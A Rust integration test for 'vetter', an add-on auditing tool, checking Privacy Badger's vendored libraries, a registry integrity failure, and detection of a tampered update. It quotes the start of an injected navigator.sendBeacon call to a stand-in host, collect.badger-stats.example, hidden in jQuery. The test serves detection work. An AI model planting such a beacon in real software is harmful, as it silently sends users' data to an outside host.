//! The capability analysis end to end on real data, through the real `vetter` binary:
//! - `vetter libs update` builds the library index from the npm tarballs of the three
//!   libraries Privacy Badger vendors (fetched by `bench/fetch-data`), served by a registry on
//!   loopback the way registry.npmjs.org serves them (package document, then tarball checked
//!   against its sha512 integrity); a tarball that does not match is refused and the index is
//!   left as it was;
//! - `vetter inspect` on Privacy Badger shows the three libraries unmodified, its endpoints,
//!   sinks and permission use;
//! - a next version whose jQuery carries an injected beacon is caught by `vetter diff
//!   --capabilities`: a new host, a new sink, and jQuery shown as a modified copy with the
//!   injected lines in its diff against upstream;
//! - every fact is a signal of `vetter signals --json`, and `vetter lint` adds addons-linter's
//!   messages as signals of source `addons-linter`.
//!
//! Expected values were read from the package files (Privacy Badger's manifest and code, the
//! npm tarballs), not from the program's output.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::Path;

use base64::Engine as _;
use serde_json::Value;
use sha2::{Digest, Sha512};

use crate::cli_support;
use crate::real_data_support;
use cli_support::{ok, vetter};
use real_data_support::{bench_data, zip_path};

const LIBRARIES: [(&str, &str); 3] = [
    ("jquery", "3.5.1"),
    ("underscore", "1.9.1"),
    ("punycode", "1.4.1"),
];

/// A registry on loopback serving the fetched tarballs, plus `punycode@9.9.9` whose tarball
/// does not match its integrity. Returns its base URL.
fn registry() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("binds loopback");
    let base = format!("http://{}/", listener.local_addr().expect("address"));
    let npm = bench_data().join("npm");
    let tarballs: Vec<(String, String, Vec<u8>)> = LIBRARIES
        .iter()
        .map(|(n, v)| {
            let bytes = std::fs::read(npm.join(format!("{n}-{v}.tgz"))).expect("fetched tarball");
            (n.to_string(), v.to_string(), bytes)
        })
        .collect();
    let served = base.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut line = String::new();
            let mut reader = BufReader::new(stream.try_clone().expect("clone"));
            if reader.read_line(&mut line).is_err() {
                continue;
            }
            // Headers are read and ignored.
            let mut header = String::new();
            while reader.read_line(&mut header).is_ok_and(|n| n > 2) {
                header.clear();
            }
            let path = line.split_whitespace().nth(1).unwrap_or("/").to_owned();
            let (status, body): (&str, Vec<u8>) = respond(&served, &tarballs, &path);
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(&body);
            let _ = stream.flush();
            let mut rest = Vec::new();
            let _ = reader.read_to_end(&mut rest);
        }
    });
    base
}

fn respond(
    base: &str,
    tarballs: &[(String, String, Vec<u8>)],
    path: &str,
) -> (&'static str, Vec<u8>) {
    let integrity = |b: &[u8]| {
        format!(
            "sha512-{}",
            base64::engine::general_purpose::STANDARD.encode(Sha512::digest(b))
        )
    };
    for (name, version, bytes) in tarballs {
        if path == format!("/{name}") {
            let mut versions = serde_json::Map::new();
            versions.insert(
                version.clone(),
                serde_json::json!({"dist": {
                    "tarball": format!("{base}{name}/-/{name}-{version}.tgz"),
                    "integrity": integrity(bytes),
                }}),
            );
            if name == "punycode" {
                versions.insert(
                    "9.9.9".into(),
                    serde_json::json!({"dist": {
                        "tarball": format!("{base}{name}/-/{name}-9.9.9.tgz"),
                        "integrity": integrity(b"what the registry promised"),
                    }}),
                );
            }
            let doc = serde_json::json!({
                "name": name, "dist-tags": {"latest": version}, "versions": versions,
            });
            return ("200 OK", doc.to_string().into_bytes());
        }
        if path == format!("/{name}/-/{name}-{version}.tgz")
            || name == "punycode" && path == "/punycode/-/punycode-9.9.9.tgz"
        {
            return ("200 OK", bytes.clone());
        }
    }
    ("404 Not Found", b"{}".to_vec())
}

fn vetter_json(data: &Path, args: &[&str]) -> Value {
    let mut all = vec!["--json"];
    all.extend_from_slice(args);
    serde_json::from_str(&ok(vetter(data, &all))).expect("vetter prints JSON")
}

#[test]
fn vendored_libraries_endpoints_sinks_and_permissions_of_real_add_ons() {
    let data = tempfile::tempdir().expect("data folder");
    let registry = registry();

    // A tarball that does not match its integrity is refused and indexes nothing.
    let refused = vetter(
        data.path(),
        &["libs", "update", "--registry", &registry, "punycode@9.9.9"],
    );
    assert!(!refused.status.success());
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("does not match its integrity"), "{stderr}");
    assert_eq!(
        vetter_json(data.path(), &["libs", "list"]),
        serde_json::json!([])
    );

    let specs: Vec<String> = LIBRARIES.iter().map(|(n, v)| format!("{n}@{v}")).collect();
    let mut args = vec!["libs", "update", "--registry", registry.as_str()];
    args.extend(specs.iter().map(String::as_str));
    let added = vetter_json(data.path(), &args);
    let names: Vec<&str> = added
        .as_array()
        .expect("a list")
        .iter()
        .map(|p| p["name"].as_str().expect("name"))
        .collect();
    assert_eq!(names, ["jquery", "underscore", "punycode"]);

    let old_zip = zip_path("privacy-badger");
    ok(vetter(
        data.path(),
        &["import", old_zip.to_str().expect("UTF-8")],
    ));
    let new_xpi = data.path().join("privacy-badger-2020.10.8.xpi");
    let tampered = vetter_testkit::tampered_privacy_badger(&old_zip).expect("the zip reads");
    std::fs::write(&new_xpi, tampered).expect("writes the XPI");
    ok(vetter(
        data.path(),
        &["import", new_xpi.to_str().expect("UTF-8")],
    ));
    let versions = vetter_json(data.path(), &["versions"]);
    let id_of = |v: &str| {
        versions
            .as_array()
            .expect("list")
            .iter()
            .find(|x| x["version"] == v)
            .unwrap_or_else(|| panic!("version {v} cached"))["id"]
            .as_i64()
            .expect("id")
            .to_string()
    };
    let (old, new) = (id_of("2020.10.7"), id_of("2020.10.8"));

    // The older version: the three vendored libraries are the npm files, byte for byte.
    let caps = vetter_json(data.path(), &["inspect", &old]);
    let libs: Vec<(&str, &str, &str, &str)> = caps["libraries"]
        .as_array()
        .expect("libraries")
        .iter()
        .map(|l| {
            (
                l["path"].as_str().unwrap(),
                l["package"].as_str().unwrap(),
                l["upstream_path"].as_str().unwrap(),
                l["state"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        libs,
        [
            (
                "lib/vendor/jquery-3.5.1.js",
                "jquery",
                "dist/jquery.js",
                "unmodified"
            ),
            (
                "lib/vendor/punycode-1.4.1.js",
                "punycode",
                "punycode.js",
                "unmodified"
            ),
            (
                "lib/vendor/underscore-1.9.1.js",
                "underscore",
                "underscore.js",
                "unmodified"
            ),
        ]
    );
    // Privacy Badger's own code: its manifest declares `storage` and calls it.
    let permission = |caps: &Value, name: &str| {
        caps["permissions"]
            .as_array()
            .expect("permissions")
            .iter()
            .find(|p| p["permission"] == name)
            .map(|p| p["status"].as_str().unwrap().to_owned())
    };
    assert_eq!(permission(&caps, "storage").as_deref(), Some("used"));
    assert_eq!(
        permission(&caps, "webRequestBlocking").as_deref(),
        Some("used")
    );
    assert!(
        caps["endpoints"]
            .as_array()
            .expect("endpoints")
            .iter()
            .any(|e| e["host"] == "www.eff.org"),
        "Privacy Badger links to the EFF"
    );
    let text = ok(vetter(data.path(), &["inspect", &old]));
    assert!(
        text.contains("jquery 3.5.1, unmodified  lib/vendor/jquery-3.5.1.js"),
        "{text}"
    );

    // The tampered update: a new host, a new beacon, and jQuery a modified copy.
    let delta = vetter_json(data.path(), &["diff", &old, &new, "--capabilities"]);
    let added_hosts: Vec<&str> = delta["endpoints"]["added"]
        .as_array()
        .expect("added endpoints")
        .iter()
        .filter_map(|e| e["host"].as_str())
        .collect();
    assert_eq!(added_hosts, ["collect.badger-stats.example"]);
    let beacon = &delta["endpoints"]["added"][0];
    assert_eq!(beacon["via"], "beacon");
    assert_eq!(beacon["at"]["path"], "lib/vendor/jquery-3.5.1.js");
    assert_eq!(beacon["at"]["line"], 10_001);
    let lib = &delta["libraries"]["added"][0];
    assert_eq!(lib["state"], "modified");
    assert_eq!(lib["package"], "jquery");
    assert_eq!(
        (lib["added"].as_u64(), lib["removed"].as_u64()),
        (Some(1), Some(0))
    );
    assert!(
        lib["upstream_diff"]
            .as_array()
            .expect("diff")
            .iter()
            .any(|l| l
                .as_str()
                .unwrap()
                .starts_with("+navigator.sendBeacon('https://collect.badger-stats.example/b'")),
        "{lib}"
    );
    let text = ok(vetter(data.path(), &["diff", &old, &new, "--capabilities"]));
    assert!(text.contains("+ collect.badger-stats.example"), "{text}");
    assert!(
        text.contains("jquery 3.5.1, MODIFIED (+1 −0 lines"),
        "{text}"
    );

    // The audit report opens with the same facts.
    let out = data.path().join("report");
    ok(vetter(
        data.path(),
        &["report", &old, &new, "--out", out.to_str().expect("UTF-8")],
    ));
    let html = std::fs::read_to_string(out.join("report.html")).expect("report.html");
    let first = html.find("<h2>").map(|i| &html[i..]).expect("a section");
    assert!(
        first.starts_with("<h2>What changed in capability</h2>"),
        "{html}"
    );
    let section = &first[..first[4..].find("<h2>").map_or(first.len(), |i| i + 4)];
    assert!(
        section.contains("collect.badger-stats.example (sendBeacon)"),
        "{section}"
    );
    assert!(
        section.contains("jquery 3.5.1 MODIFIED (+1 −0"),
        "{section}"
    );

    // Every fact is a signal: the beacon's endpoint and the modified library among them.
    let signals = vetter_json(data.path(), &["signals", &new]);
    let has = |rule: &str, path: &str, line: u64| {
        signals.as_array().expect("signals").iter().any(|s| {
            s["source"] == "local" && s["rule"] == rule && s["path"] == path && s["line"] == line
        })
    };
    assert!(
        has("endpoint", "lib/vendor/jquery-3.5.1.js", 10_001),
        "{signals}"
    );
    assert!(
        has("library-modified", "lib/vendor/jquery-3.5.1.js", 1),
        "{signals}"
    );

    // Mozilla's linter on the cached version: its messages become signals.
    let report = vetter_json(data.path(), &["lint", &old]);
    let codes: Vec<&str> = report["messages"]
        .as_array()
        .expect("messages")
        .iter()
        .map(|m| m["code"].as_str().unwrap())
        .collect();
    assert!(codes.contains(&"UNSAFE_VAR_ASSIGNMENT"), "{codes:?}");
    let signals = vetter_json(data.path(), &["signals", &old]);
    let linter: Vec<&Value> = signals
        .as_array()
        .expect("signals")
        .iter()
        .filter(|s| s["source"] == "addons-linter")
        .collect();
    assert_eq!(linter.len(), codes.len());
    assert!(
        linter
            .iter()
            .any(|s| s["rule"] == "UNSAFE_VAR_ASSIGNMENT" && s["line"].as_u64() > Some(1))
    );
}
